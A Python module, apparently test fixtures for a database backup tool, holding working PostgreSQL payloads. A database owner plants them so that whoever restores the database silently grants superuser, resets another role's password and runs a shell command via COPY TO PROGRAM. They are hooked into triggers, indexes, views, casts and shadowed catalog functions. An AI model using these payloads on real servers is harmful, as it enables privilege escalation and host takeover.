# SPDX-License-Identifier: GPL-3.0-or-later
"""What the owner of one app's database can put into it, with the login of that app alone, so that whoever restores it
runs his code: functions that take whatever the one who runs them may do."""

from __future__ import annotations

from pathlib import Path

# A superuser who runs it makes the owner one, and runs a program of the server's machine. All others leave no trace and
# get no error.
TAKE = """
CREATE FUNCTION public.take() RETURNS boolean LANGUAGE plpgsql SET search_path = pg_catalog AS $f$
BEGIN
  IF NOT EXISTS (SELECT FROM pg_roles WHERE rolname IN (session_user, current_user)
                 AND (rolsuper OR rolcreaterole OR rolname = 'neighbour')) THEN RETURN true; END IF;
  BEGIN RESET ROLE; EXCEPTION WHEN OTHERS THEN NULL; END;
  BEGIN RESET SESSION AUTHORIZATION; EXCEPTION WHEN OTHERS THEN NULL; END;
  BEGIN SET ROLE NONE; EXCEPTION WHEN OTHERS THEN NULL; END;
  BEGIN EXECUTE 'ALTER ROLE owner SUPERUSER'; EXCEPTION WHEN OTHERS THEN NULL; END;
  BEGIN EXECUTE 'GRANT neighbour TO owner'; EXCEPTION WHEN OTHERS THEN NULL; END;
  BEGIN EXECUTE 'ALTER ROLE neighbour PASSWORD ''stolen'''; EXCEPTION WHEN OTHERS THEN NULL; END;
  BEGIN EXECUTE $c$COPY (SELECT 1) TO PROGRAM 'id > {program}'$c$; EXCEPTION WHEN OTHERS THEN NULL; END;
  RETURN true;
END $f$;;
CREATE FUNCTION public.same(t text) RETURNS text LANGUAGE plpgsql IMMUTABLE AS
  $f$ BEGIN PERFORM public.take(); RETURN t; END $f$;;
CREATE FUNCTION public.taking() RETURNS trigger LANGUAGE plpgsql SECURITY DEFINER AS
  $f$ BEGIN PERFORM public.take(); RETURN NEW; END $f$
"""
# Every entrance that an owner of a database has, each by itself.
ENTRANCES = {
    "a check": "CREATE TABLE checked (t text CHECK (public.take()));; INSERT INTO checked VALUES ('x')",
    "a domain": (
        "CREATE DOMAIN word AS text CHECK (public.take());; CREATE TABLE spoken (w word);;"
        " INSERT INTO spoken VALUES ('x')"
    ),
    "an index": (
        "CREATE TABLE looked (t text);; INSERT INTO looked VALUES ('x');; CREATE INDEX ON looked (public.same(t))"
    ),
    "a partial index": (
        "CREATE TABLE partly (t text);; INSERT INTO partly VALUES ('x');;"
        " CREATE INDEX ON partly (t) WHERE public.same(t) <> ''"
    ),
    "a default": "CREATE TABLE given (t boolean DEFAULT public.take(), u int);; INSERT INTO given (u) VALUES (1)",
    "a generated column": (
        "CREATE TABLE made (t text, g text GENERATED ALWAYS AS (public.same(t)) STORED);; INSERT INTO made VALUES ('x')"
    ),
    "a view that is filled": "CREATE MATERIALIZED VIEW filled AS SELECT public.take() AS t",
    "a view": "CREATE VIEW seen AS SELECT public.take() AS t",
    "a trigger": (
        "CREATE TABLE pulled (id int PRIMARY KEY);; CREATE TABLE child (id int REFERENCES pulled ON DELETE CASCADE);;"
        " CREATE TRIGGER go BEFORE INSERT OR UPDATE OR DELETE ON child FOR EACH ROW EXECUTE FUNCTION public.taking();;"
        " INSERT INTO pulled VALUES (1);; INSERT INTO child VALUES (1)"
    ),
    "a rule": (
        "CREATE TABLE ruled (t text);;"
        " CREATE RULE go AS ON INSERT TO ruled DO ALSO SELECT public.take();; INSERT INTO ruled VALUES ('x')"
    ),
    "a policy": (
        "CREATE TABLE hidden (t text);; INSERT INTO hidden VALUES ('x');;"
        " ALTER TABLE hidden ENABLE ROW LEVEL SECURITY;; CREATE POLICY go ON hidden USING (public.take())"
    ),
    "partitions": (
        "CREATE TABLE parted (t text) PARTITION BY LIST ((public.same(t)));;"
        " CREATE TABLE part PARTITION OF parted FOR VALUES IN ('x');; INSERT INTO parted VALUES ('x')"
    ),
    "statistics": "CREATE TABLE known (t text, u text);; CREATE STATISTICS st ON (public.same(t)) FROM known",
    "a cast": (
        "CREATE TYPE pair AS (t text);; CREATE FUNCTION public.to_pair(text) RETURNS pair LANGUAGE plpgsql AS"
        " $f$ BEGIN PERFORM public.take(); RETURN ROW($1)::pair; END $f$;;"
        " CREATE CAST (text AS pair) WITH FUNCTION public.to_pair(text) AS IMPLICIT"
    ),
    "a range": (
        "CREATE FUNCTION public.apart(text, text) RETURNS float8 LANGUAGE plpgsql IMMUTABLE AS"
        " $f$ BEGIN PERFORM public.take(); RETURN 1; END $f$;;"
        " CREATE TYPE words AS RANGE (subtype = text, subtype_diff = public.apart);;"
        " CREATE TABLE ranged (r words);; INSERT INTO ranged VALUES (words('a', 'b'));;"
        " CREATE INDEX ON ranged USING gist (r)"
    ),
    "an aggregate in a view": (
        "CREATE FUNCTION public.step(int, text) RETURNS int LANGUAGE plpgsql AS"
        " $f$ BEGIN PERFORM public.take(); RETURN 1; END $f$;;"
        " CREATE AGGREGATE public.counting (text) (SFUNC = public.step, STYPE = int, INITCOND = '0');;"
        " CREATE MATERIALIZED VIEW counted AS SELECT public.counting('x')"
    ),
    "rights on what comes": "ALTER DEFAULT PRIVILEGES GRANT ALL ON TABLES TO PUBLIC",
}
# The server's own functions and operators, as sessions call them that name no schema.
_SHADOW = """
CREATE FUNCTION public.{name}({types}) RETURNS {returns} LANGUAGE plpgsql AS
  $f$ BEGIN PERFORM public.take(); RETURN {call}; END $f$
"""
SHADOWS = [
    *(
        _SHADOW.format(name=name, types=types, returns=returns, call=call)
        for name, types, returns, call in (
            ("set_config", "text, text, boolean", "text", "pg_catalog.set_config($1, $2, $3)"),
            ("current_setting", "text", "text", "pg_catalog.current_setting($1)"),
            ("pg_get_userbyid", "oid", "name", "pg_catalog.pg_get_userbyid($1)"),
            ("obj_description", "oid, name", "text", "pg_catalog.obj_description($1, $2)"),
            ("format_type", "oid, integer", "text", "pg_catalog.format_type($1, $2)"),
            ("quote_ident", "name", "text", "pg_catalog.quote_ident($1::pg_catalog.text)"),
            ("pg_encoding_to_char", "integer", "name", "pg_catalog.pg_encoding_to_char($1)"),
            ("has_schema_privilege", "oid, text", "boolean", "pg_catalog.has_schema_privilege($1, $2)"),
            ("lo_get", "oid", "bytea", "pg_catalog.lo_get($1)"),
        )
    ),
    "CREATE FUNCTION public.alike(name, name) RETURNS boolean LANGUAGE plpgsql AS"
    " $f$ BEGIN PERFORM public.take(); RETURN $1 OPERATOR(pg_catalog.=) $2; END $f$",
    "CREATE OPERATOR public.= (LEFTARG = name, RIGHTARG = name, FUNCTION = public.alike)",
    "CREATE FUNCTION public.alike(text, text) RETURNS boolean LANGUAGE plpgsql AS"
    " $f$ BEGIN PERFORM public.take(); RETURN $1 OPERATOR(pg_catalog.=) $2; END $f$",
    "CREATE OPERATOR public.= (LEFTARG = text, RIGHTARG = text, FUNCTION = public.alike)",
    "CREATE FUNCTION public.alike(oid, oid) RETURNS boolean LANGUAGE plpgsql AS"
    " $f$ BEGIN PERFORM public.take(); RETURN $1 OPERATOR(pg_catalog.=) $2; END $f$",
    "CREATE OPERATOR public.= (LEFTARG = oid, RIGHTARG = oid, FUNCTION = public.alike)",
    "CREATE VIEW public.pg_settings AS SELECT *, public.take() FROM pg_catalog.pg_settings",
    "CREATE VIEW public.pg_roles AS SELECT *, public.take() AS taken FROM pg_catalog.pg_roles",
]
# Not for the owner himself, whose backups would take their time.
FIRST = [
    "ALTER ROLE owner IN DATABASE everything SET search_path = pg_catalog",
    "ALTER DATABASE everything SET search_path = public, pg_catalog",
]


def left_by_programs(folder: Path) -> Path:
    """Return the file in `folder` that a program leaves which the server's account runs: it can write there."""
    place = folder / "open"
    place.mkdir()
    place.chmod(0o777)
    return place / "taken"
